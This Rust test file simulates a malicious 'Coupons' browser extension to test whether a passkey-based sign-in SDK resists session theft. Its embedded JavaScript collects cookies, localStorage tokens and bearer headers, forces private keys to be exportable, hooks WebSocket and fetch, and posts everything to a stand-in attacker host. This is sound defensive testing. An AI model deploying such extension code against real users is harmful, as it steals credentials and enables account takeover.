//! A real extension in a real browser, with the rights that many ask for: all sites, and their cookies.

use std::{fs, path::Path};

use passkey_accounts::protocol::{
    base64url,
    gateway::{ServerMessage, SignedIn},
};
use passkey_accounts_tests::{
    PageKey,
    chromium::Chromium,
    shop::{Carried, Shop},
};
use serde_json::{Value, json};
use tempfile::TempDir;

use super::{
    THEFT, acted, attack, held, is_ours,
    mallory::{Mallory, Victim},
};

#[tokio::test]
async fn an_extension_reads_what_the_browser_keeps() {
    attack("extensionReads", async |build| {
        let shop = Shop::open(build).await;
        let mut mallory = Mallory::start("", "").await;
        let extension = extension(&mallory, "");
        let browser = Chromium::launch_with_extension(extension.path()).await.unwrap();
        let victim = Victim::sign_up(&browser, &shop).await;
        let _tab = browser.open(&format!("{}/#signed-in", shop.origin)).await.unwrap();
        let loot = loot(&mut mallory, |loot| loot["at"] == "#signed-in").await;
        let Some(token) = token(&loot) else {
            assert_eq!(loot["cookies"], json!([]), "{loot}");
            assert_eq!(loot["databases"], json!([]), "{loot}");
            return held("nothing is stored");
        };
        let stolen = Carried::Token(token);
        shop.send(&shop.carrying(&stolen, "/act", THEFT)).await;
        acted(&shop, &victim.name, "used on the attacker's machine", "of no use elsewhere")
    })
    .await;
}

#[tokio::test]
async fn an_extension_takes_the_place_of_what_the_site_uses() {
    attack("extensionFirst", async |build| {
        let shop = Shop::open(build).await;
        let mut mallory = Mallory::start("", "").await;
        let extension = extension(&mallory, FIRST);
        let browser = Chromium::launch_with_extension(extension.path()).await.unwrap();
        let victim = Victim::sign_up(&browser, &shop).await;
        let stolen = if is_ours(build) {
            let signed_in = loot(&mut mallory, |loot| loot["said"].is_string()).await;
            let text = signed_in["said"].as_str().unwrap();
            let (_, ServerMessage::SignedIn(SignedIn { session, .. })) = ServerMessage::decode(text).unwrap()
            else {
                panic!("{text}")
            };
            let mut thief = shop.connect_page().await;
            let private = base64url::decode(signed_in["key"]["d"].as_str().unwrap()).unwrap();
            thief.key = PageKey::from_private(&private).expect("it is a key");
            Carried::Page(Box::new(thief), session)
        } else {
            let loot = loot(&mut mallory, |loot| token(loot).is_some()).await;
            Carried::Token(token(&loot).unwrap())
        };
        let answer = shop.send(&shop.carrying(&stolen, "/act", THEFT)).await;
        let how = if is_ours(build) {
            "it leaves the SDK no worker, and hands it a key that can be copied"
        } else {
            "used on the attacker's machine"
        };
        acted(&shop, &victim.name, how, answer.outcome())
    })
    .await;
}

/// What it sends next that is worth something.
async fn loot(mallory: &mut Mallory, is_worth: impl Fn(&Value) -> bool) -> Value {
    loop {
        let loot = mallory.loot().await;
        if is_worth(&loot) {
            return loot;
        }
    }
}

fn token(loot: &Value) -> Option<String> {
    loot["token"].as_str().or_else(|| loot["cookies"][0].as_str()).map(str::to_owned)
}

/// An unpacked extension. `first` runs in every page, among its scripts and before them.
fn extension(mallory: &Mallory, first: &str) -> TempDir {
    let folder = tempfile::tempdir().unwrap();
    let manifest = json!({
        "manifest_version": 3, "name": "Coupons", "version": "1",
        "permissions": ["cookies"], "host_permissions": ["<all_urls>"],
        "background": { "service_worker": "background.js" },
        "content_scripts": [
            { "matches": ["<all_urls>"], "js": ["beside.js"], "run_at": "document_start" },
            { "matches": ["<all_urls>"], "js": ["first.js"], "run_at": "document_start", "world": "MAIN" },
        ],
    });
    let write = |name: &str, text: &str| fs::write(Path::join(folder.path(), name), text).unwrap();
    write("manifest.json", &manifest.to_string());
    write("background.js", &BACKGROUND.replace("MALLORY", &mallory.origin("mallory.localhost")));
    write("beside.js", BESIDE);
    write("first.js", first);
    folder
}

/// Adds the cookies of the page's site to whatever is found, and sends it off.
const BACKGROUND: &str = "
    chrome.runtime.onMessage.addListener((found, { url }, done) => {
        chrome.cookies.getAll({ url }).then((cookies) => {
            const body = JSON.stringify({ ...found, cookies: cookies.map(({ value }) => value) });
            return fetch('MALLORY/loot', { method: 'POST', mode: 'no-cors', body });
        }).then(done);
        return true;
    });
";

/// Beside the page's scripts: sees its storage, and hears what `first.js` has to say.
const BESIDE: &str = "
    document.addEventListener('found', ({ detail }) => chrome.runtime.sendMessage(JSON.parse(detail)));
    addEventListener('load', async () => {
        const databases = (await indexedDB.databases()).map(({ name }) => name);
        chrome.runtime.sendMessage({ at: location.hash, token: localStorage.token ?? null, databases });
    });
";

/// Leaves the SDK no worker, so that it works in the page, and makes the key that it asks for one that can be exported.
const FIRST: &str = "
    const tell = (found) => document.dispatchEvent(new CustomEvent('found', { detail: JSON.stringify(found) }));
    let key;
    delete globalThis.SharedWorker;
    const makeKey = SubtleCrypto.prototype.generateKey;
    SubtleCrypto.prototype.generateKey = async function (algorithm, extractable, uses) {
        const pair = await makeKey.call(this, algorithm, true, uses);
        key = await this.exportKey('jwk', pair.privateKey);
        return pair;
    };
    globalThis.WebSocket = class extends WebSocket {
        constructor(...given) {
            super(...given);
            this.addEventListener('message', ({ data }) => data.includes('signedIn') && tell({ key, said: data }));
        }
    };
    const realFetch = globalThis.fetch;
    globalThis.fetch = async (address, init) => {
        const answer = await realFetch(address, init);
        const said = new Headers(init?.headers).get('authorization');
        tell({ token: said?.replace('Bearer ', '') ?? null });
        return answer;
    };
";
